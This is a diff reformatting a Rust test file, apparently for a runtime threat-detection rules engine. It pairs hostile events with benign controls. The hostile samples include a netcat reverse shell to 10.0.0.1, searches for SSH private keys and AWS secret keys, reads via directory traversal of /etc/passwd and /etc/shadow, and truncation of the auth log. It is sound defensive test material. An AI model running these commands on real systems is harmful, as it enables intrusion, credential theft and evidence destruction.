@@ -44,11 +44,7 @@ fn pairs() -> Vec<Pair> {
         })
     };
     vec![
-        (
-            "Directory traversal monitored file read",
-            traversal("/var/www/../../etc/passwd"),
-            traversal("/etc/passwd"),
-        ),
+        ("Directory traversal monitored file read", traversal("/var/www/../../etc/passwd"), traversal("/etc/passwd")),
         (
             "Directory traversal monitored file read",
             failed("/var/www/../../etc/shadow"),
@@ -89,7 +85,11 @@ fn pairs() -> Vec<Pair> {
             Scene::exec("nc -e /bin/sh 10.0.0.1 4444"),
             Scene::exec("nc 10.0.0.1 4444"),
         ),
-        ("Search Private Keys or Passwords", Scene::exec("find / -name id_rsa"), Scene::exec("find / -name index.html")),
+        (
+            "Search Private Keys or Passwords",
+            Scene::exec("find / -name id_rsa"),
+            Scene::exec("find / -name index.html"),
+        ),
         (
             "Clear Log Activities",
             Scene::open("sh -c x", "/var/log/auth.log", O_WRONLY | O_TRUNC),
@@ -138,11 +138,7 @@ fn pairs() -> Vec<Pair> {
         ),
         ("PTRACE attached to process", ptrace(16), ptrace(7)),
         ("PTRACE anti-debug attempt", ptrace(0), ptrace(16)),
-        (
-            "Find AWS Credentials",
-            Scene::exec("grep -r aws_secret_access_key /"),
-            Scene::exec("grep -r colour /"),
-        ),
+        ("Find AWS Credentials", Scene::exec("grep -r aws_secret_access_key /"), Scene::exec("grep -r colour /")),
         (
             "Execution from /dev/shm",
             Scene::exec("./x").program(|exec| exec.cwd = "/dev/shm".into()),
@@ -208,7 +204,9 @@ fn an_output_has_the_values_of_the_event() {
 
 #[test]
 fn what_a_container_chose_is_shown_escaped() {
-    let set = support::rules("- rule: r\n  desc: d\n  condition: evt.type=openat\n  output: '%fd.name|%proc.cmdline|100%%'\n  priority: info\n");
+    let set = support::rules(
+        "- rule: r\n  desc: d\n  condition: evt.type=openat\n  output: '%fd.name|%proc.cmdline|100%%'\n  priority: info\n",
+    );
     let scene = Scene::open("a\u{1b}[2J", "/tmp/\u{202e}x", O_CREAT).with(|action| {
         action.file = Some(file(3, "/tmp/\u{202e}x\n"));
     });
